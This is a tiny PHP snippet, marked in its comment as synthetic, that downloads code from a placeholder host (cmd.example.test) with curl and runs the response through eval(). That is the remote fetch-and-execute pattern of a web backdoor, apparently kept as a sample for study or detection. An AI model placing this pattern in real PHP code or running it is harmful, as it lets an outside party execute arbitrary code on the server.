<?php
// synthetic: code pulled from a remote server and evaluated
$ch = curl_init('http://cmd.example.test/api.php?g=1');
curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
$remote = curl_exec($ch);
eval($remote);
